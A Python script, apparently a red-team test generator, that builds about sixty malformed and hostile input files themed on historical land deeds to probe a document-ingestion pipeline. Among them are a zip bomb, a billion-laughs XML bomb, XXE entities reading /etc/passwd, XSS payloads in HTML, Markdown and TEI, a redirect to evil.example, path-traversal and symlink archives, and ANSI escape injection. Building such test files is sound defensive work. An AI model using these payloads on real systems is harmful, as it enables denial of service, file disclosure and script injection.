import os, zipfile, io, tarfile, shutil, docx
from fpdf import FPDF
os.chdir('/work/redteam55/in/h')
def w(n, b):
    open(n, 'wb').write(b if isinstance(b, bytes) else b.encode())
ok = "The conveyance of Hyde Park Farm was made by John Carr at Bakewell on 3 May 1821.\n"
# PDF
p = FPDF(); p.add_page(); p.set_font("Helvetica", size=12); p.multi_cell(0, 7, ok); p.output("good.pdf")
pdf = open("good.pdf","rb").read()
w("H01_truncated.pdf", pdf[:len(pdf)//2])
w("H02_pdf_as.docx", pdf)
w("H03_docx_as.pdf", open('/work/redteam55/in/coll/land/L07_survey_1840.docx','rb').read())
# zip bomb
with zipfile.ZipFile("H04_bomb.zip", "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("big.txt", b"A" * (200*1024*1024))
    z.writestr("ok.txt", ok)
w("H05_billion.xml", '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">' + ''.join(f'<!ENTITY lol{i} "{("&lol%s;" % (i-1 if i>1 else "")) * 10}">' for i in range(1,10)).replace('&lol0;','&lol;') + ']>\n<TEI xmlns="http://www.tei-c.org/ns/1.0"><text><body><p>&lol9;</p></body></text></TEI>\n')
w("H06_xxe.xml", '<?xml version="1.0"?>\n<!DOCTYPE TEI [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<TEI xmlns="http://www.tei-c.org/ns/1.0"><text><body><p>Deed of Lincoln Farm. &xxe; End.</p></body></text></TEI>\n')
w("H07_deep.xml", '<?xml version="1.0"?><TEI xmlns="http://www.tei-c.org/ns/1.0"><text><body>' + '<div>'*50000 + '<p>deep deed</p>' + '</div>'*50000 + '</body></text></TEI>')
w("H08_hugeattr.xml", '<?xml version="1.0"?><TEI xmlns="http://www.tei-c.org/ns/1.0"><text><body><p rend="' + 'x'*20_000_000 + '">Lease of Lincoln Farm by Henry Lincoln.</p></body></text></TEI>')
w("H09_junk.txt", os.urandom(20000))
w("H10_utf16bom.txt", ("\ufeff" + ok*3).encode('utf-16-le'))
w("H11_cp1252.txt", "The rent of Lincoln Farm was £12 10s. 6d. paid at Michaelmas by Mrs Hélène Carré.\n".encode('cp1252'))
w("H12_nul.txt", b"Lease of Hyde\x00 Park Farm to Thomas\x00 Holt in 1790.\n")
w("H13_longline.txt", "Hyde" + "a"*3_000_000 + " Farm was leased in 1790.\n")
w("H14_rtl.txt", "The deed of \u202eFarm Park Hyde\u202c was signed by \u05d3\u05d5\u05d3 \u05db\u05d4\u05df and Z\u0351\u0352\u0353a\u0300\u0301\u0302l\u0303\u0304go Carr in 1821. ﷽ \n")
w("H15_emoji.txt", "🏡 Hyde Park Farm 🐄 was sold to 👨‍🌾 John Carr for £12 💷 in 1821. 🇬🇧\n")
w("H16_ansi.txt", "\x1b]0;PWNED\x07\x1b[31mRed Title\x1b[0m\n\nThe lease of \x1b[2JLincoln Farm to Henry\x08\x08Lincoln in 1835.\n")
w("H17_ansi_name_\x1b[31mred.txt", ok)
w("-H18_dash.txt", ok)
w("H19 space ünïcödé name.txt", ok)
os.makedirs("H20_dir.txt", exist_ok=True)
w("H21_empty.txt", b"")
d = open('/work/redteam55/in/coll/land/L07_survey_1840.docx','rb').read()
w("H22_trunc.docx", d[:len(d)//2])
# docx with XXE
src = zipfile.ZipFile('/work/redteam55/in/coll/land/L07_survey_1840.docx')
with zipfile.ZipFile("H23_xxe.docx", "w") as z:
    for i in src.infolist():
        data = src.read(i.filename)
        if i.filename == 'word/document.xml':
            s = data.decode()
            s = s.replace('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>', '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>', 1)
            s = s.replace('Field book', 'Field book &xxe;', 1)
            data = s.encode()
        z.writestr(i, data)
w("H24_inject.html", '''<!DOCTYPE html><html><head><title>Deed &lt;/title&gt;&lt;script&gt;alert('t')&lt;/script&gt; of Lincoln Farm</title><base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example"></head>
<body><h1>Deed <img src=x onerror=alert(1)> of Lincoln Farm</h1><script>alert("raw")</script>
<p>Henry Lincoln &lt;img src=x onerror=alert(2)&gt; mortgaged Lincoln Farm in 1835 to "</script><script>alert(3)</script>" Samuel Greaves.</p>
<p><a href="javascript:alert(4)">click</a> <iframe src="http://evil.example"></iframe></p>
<figure><img src="file:///etc/passwd" alt="plan &quot;onerror=alert(5)"><figcaption>Plan of Lot 7 <svg onload=alert(6)> (photo: J. Carr)</figcaption></figure>
<p>Colonel Marsh said, "&lt;/script&gt;&lt;script&gt;alert(7)&lt;/script&gt;" at Bakewell.</p></body></html>''')
w("H25_inject.md", '# Lease <script>alert(1)</script> of Hyde Park Farm\n\n[click](javascript:alert(2)) <img src=x onerror=alert(3)>\n\nJohn Carr said, "</script><script>alert(4)</script>" in 1821 at Bakewell.\n\n![plan](../../../etc/passwd "x\\" onerror=alert(5)")\n')
with zipfile.ZipFile("H26_traversal.zip", "w") as z:
    z.writestr("../../evil.txt", ok); z.writestr("/abs/evil2.txt", ok); z.writestr("good/deed.txt", ok)
    zi = zipfile.ZipInfo("link.txt"); zi.external_attr = (0o120777 << 16); z.writestr(zi, "/etc/passwd")
inner = io.BytesIO()
with zipfile.ZipFile(inner, "w") as z3: z3.writestr("level3.txt", "Level three deed of 1822 at Bakewell.\n")
mid = io.BytesIO()
with zipfile.ZipFile(mid, "w") as z2: z2.writestr("level2.txt", "Level two deed of 1821.\n"); z2.writestr("l3.zip", inner.getvalue())
with zipfile.ZipFile("H27_nested.zip", "w") as z:
    z.writestr("level1.txt", "Level one deed of 1820.\n"); z.writestr("l2.zip", mid.getvalue())
with zipfile.ZipFile("H28_many.zip", "w") as z:
    for i in range(10050): z.writestr(f"m/{i}.txt", f"Deed {i}.\n")
zb = open("H26_traversal.zip","rb").read(); w("H29_corrupt.zip", zb[:len(zb)//2])
with tarfile.open("H30_traversal.tar.gz", "w:gz") as t:
    for name in ["../../tarevil.txt", "ok/deed.txt"]:
        data = ok.encode(); ti = tarfile.TarInfo(name); ti.size = len(data); t.addfile(ti, io.BytesIO(data))
    ti = tarfile.TarInfo("ok/link.txt"); ti.type = tarfile.SYMTYPE; ti.linkname = "/etc/passwd"; t.addfile(ti)
    ti = tarfile.TarInfo("ok/dev"); ti.type = tarfile.CHRTYPE; ti.devmajor=1; ti.devminor=3; t.addfile(ti)
w("H31_table.md", "# Tithe\n\n|" + "|".join(f"c{i}" for i in range(300)) + "|\n|" + "|".join("-" for i in range(300)) + "|\n|" + "|".join(f"v{i}" for i in range(300)) + "|\n")
w("H32_deep.html", "<html><body>" + "<div>"*100000 + "<p>Deep deed of 1821</p>" + "</div>"*100000 + "</body></html>")
with open("H33_big.txt", "wb") as f: f.seek(51*1024*1024); f.write(b"x")
w("H34_notes.rtf", r"{\rtf1\ansi Deed of Lincoln Farm}")
w("H35_register.csv", "a,b\n1,2\n")
w("H36_notes.foo", ok)
shutil.copy('/work/redteam55/in/coll/images/plan_lot7.jpg', 'H37_plan.jpg')
shutil.copy('/work/redteam55/in/coll/images/survey_sheet.tiff', 'H38_sheet.tiff')
w("H39_blank.txt", "   \n\t\n  \n")
w("H40_badutf8.txt", b"Lease of Lincoln Farm \xed\xa0\x80 by Henry \xff\xfe Lincoln in 1835.\n")
w("H41_cr.txt", "Deed of 1821.\rJohn Carr of Bakewell.\rRent £12.\r")
w("H42_bom_mid.txt", "\ufeffDeed \ufeff of Lincoln\ufeff Farm in 1835.\n")
w("H43_dtd_entity.xml", '<?xml version="1.0"?>\n<!DOCTYPE TEI [<!ENTITY farm "Hyde Park Farm">]>\n<TEI xmlns="http://www.tei-c.org/ns/1.0"><text><body><p>Lease of &farm; to Thomas Holt in 1790.</p></body></text></TEI>\n')
w("H44_baddates.xml", '<?xml version="1.0"?>\n<TEI xmlns="http://www.tei-c.org/ns/1.0"><text><body><p>Deed dated <date when="1821-02-30">30 February 1821</date>, <date when="-99999">long ago</date>, <date when="garbage">Lady Day</date>, <date when="99999999-12-31">far</date> by <persName>John Carr</persName>.</p></body></text></TEI>\n')
w("H45_tei_inject.xml", '<?xml version="1.0"?>\n<TEI xmlns="http://www.tei-c.org/ns/1.0"><teiHeader><fileDesc><titleStmt><title>&lt;script&gt;alert(1)&lt;/script&gt; Deed</title></titleStmt></fileDesc></teiHeader><text><body><p>Lease by <persName ref="javascript:alert(2)">&lt;img src=x onerror=alert(3)&gt; Carr</persName> at <placeName ref="&quot;&gt;&lt;script&gt;alert(4)&lt;/script&gt;">Bakewell</placeName> in 1821.</p></body></text></TEI>\n')
w("H46_stylesheet.xml", '<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="file:///etc/passwd"?>\n<TEI xmlns="http://www.tei-c.org/ns/1.0" xmlns:xi="http://www.w3.org/2001/XInclude"><text><body><p>Deed <xi:include href="file:///etc/passwd" parse="text"/> of 1821.</p></body></text></TEI>\n')
import gzip; w("H47_gzip.txt", gzip.compress(ok.encode()*10))
w("H48_cp1251.html", '<html><head><meta charset="windows-1251"><title>Deed</title></head><body><p>'.encode() + "Дарственная на ферму Линкольн, 1835 год. Лес и пашня.".encode('cp1251') + b'</p></body></html>')
os.symlink('/etc/passwd', 'H49_link_out.txt')
w("H50_nfd_Ca\u0301rr.txt", "Deed of Ca\u0301rr Farm 1821.\n")
w("H51_manywords.txt", ("Carr " * 400000) + "\n")
w("H52_pdf_as.txt", pdf)
w("H53_zip_as.txt", open("H27_nested.zip","rb").read())
w("H54_controls_only.txt", bytes(range(1,9))*100)
w("H55_xml_notei.xml", '<?xml version="1.0"?><records><record><owner>John Carr</owner><parcel>112</parcel></record></records>')
w("H56_malformed.xml", '<?xml version="1.0"?><TEI xmlns="http://www.tei-c.org/ns/1.0"><text><body><p>Deed of Lincoln Farm <unclosed></p></body></TEI>')
w("H57_html_malformed.html", '<html><body><p>Lease of <b><i>Hyde Park Farm</b></i> to Thomas Holt <table><tr><td>1790<p>unclosed')
w("H58_latin1_nodecl.html", '<html><body><p>Rent £12 paid by Hélène Carré at Michaelmas 1790.</p></body></html>'.encode('latin-1'))
pe = FPDF(); pe.add_page(); pe.set_font("Helvetica", size=12); pe.multi_cell(0,7,ok); pe.set_encryption(owner_password="o", user_password="secret"); pe.output("H59_encrypted.pdf")
w("H60_docx_junk.docx", b"PK\x03\x04" + os.urandom(3000))
